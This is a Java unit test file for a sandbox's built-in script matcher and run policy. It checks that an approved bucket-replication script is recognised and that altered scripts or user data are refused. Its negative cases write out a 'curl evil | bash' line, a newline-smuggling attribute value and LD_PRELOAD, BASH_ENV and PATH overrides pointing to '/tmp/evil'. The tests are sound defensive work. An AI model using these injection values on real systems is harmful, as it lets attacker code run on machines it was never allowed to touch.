package dev.replinode.sandbox.instance;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.replinode.stackscript.UserData;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** What may run without being allowed to: the built-in script, and nothing that looks like it. */
class BuiltInScriptTest {
  private static final Map<String, String> VALUES =
      Map.of("SRC_BUCKET", "media", "DEST_SECRETKEY_PASSWORD", "s3cret");

  private final BuiltInScript builtIn = new BuiltInScript();
  private String own;

  @BeforeEach
  void read() throws IOException {
    try (InputStream stream =
        BuiltInScriptTest.class.getResourceAsStream("/stackscripts/replicate-bucket/script.sh")) {
      own = new String(stream.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  @Test
  void is_known_whatever_options_its_fields_offer() {
    assertTrue(builtIn.matches(own));
    assertTrue(builtIn.matches(own.replaceFirst("oneOf=\"[^\"]*\"", "oneOf=\"new-1\"")));
    assertFalse(builtIn.matches(own + "\ncurl evil | bash\n"));
    assertFalse(builtIn.matches(own.replaceFirst("oneOf=\"[^\"]*\"", "oneOf=\"x\nevil\"")));
    assertFalse(builtIn.matches(own.replaceFirst("oneOf=\"", "oneOf=\"x\" more=\"")));
  }

  @Test
  void is_known_in_user_data_whatever_options_its_fields_offer() {
    String renewed = own.replaceFirst("oneOf=\"[^\"]*\"", "oneOf=\"new-1\"");

    assertEquals(Optional.of(VALUES), builtIn.valuesIn(UserData.of(own, VALUES)));
    assertEquals(Optional.of(VALUES), builtIn.valuesIn(UserData.of(renewed, VALUES)));
  }

  @Test
  void another_script_or_a_variable_that_is_no_field_is_not_known() {
    assertEquals(
        Optional.empty(), builtIn.valuesIn(UserData.of(own + "\ncurl evil | bash\n", VALUES)));
    for (String name : new String[] {"BASH_ENV", "LD_PRELOAD", "PATH", "src_bucket"}) {
      assertEquals(
          Optional.empty(), builtIn.valuesIn(UserData.of(own, Map.of(name, "/tmp/evil"))), name);
    }
    assertEquals(Optional.empty(), builtIn.valuesIn("#cloud-config\n"));
  }

  @Test
  void only_what_is_built_in_runs_without_being_allowed() {
    ScriptPolicy policy = new ScriptPolicy(builtIn, false);
    String data = UserData.of(own, VALUES);
    String other = "#!/bin/bash\necho\n";

    assertTrue(policy.refusal(order(own, null), false).isEmpty());
    assertTrue(policy.refusal(order(null, data), false).isEmpty());
    assertTrue(policy.refusal(order(own, data), false).isEmpty());
    assertTrue(policy.refusal(order(null, other), true).isPresent());
    assertTrue(policy.refusal(order(own, other), true).isPresent());
    assertTrue(policy.refusal(order(other, data), true).isPresent());
  }

  @Test
  void is_spoilt_by_a_wrong_key_in_user_data_too() {
    MachineOrder spoilt = new SpoiltScript(builtIn).of(order(null, UserData.of(own, VALUES)));

    Map<String, String> values = builtIn.valuesIn(spoilt.userData().orElseThrow()).orElseThrow();
    assertEquals("media", values.get("SRC_BUCKET"));
    assertTrue(values.get("DEST_SECRETKEY_PASSWORD").contains("spoilt"));
  }

  @Test
  void other_user_data_is_spoilt_by_ending_it() {
    MachineOrder spoilt = new SpoiltScript(builtIn).of(order(null, "#!/bin/bash\necho\n"));

    assertEquals(Optional.of("#!/bin/bash\nexit 1\n"), spoilt.userData());
    assertEquals(Optional.empty(), spoilt.script());
  }

  private static MachineOrder order(String script, String userData) {
    return new MachineOrder(
        1, Optional.ofNullable(script), Optional.ofNullable(userData), true, Map.of());
  }
}
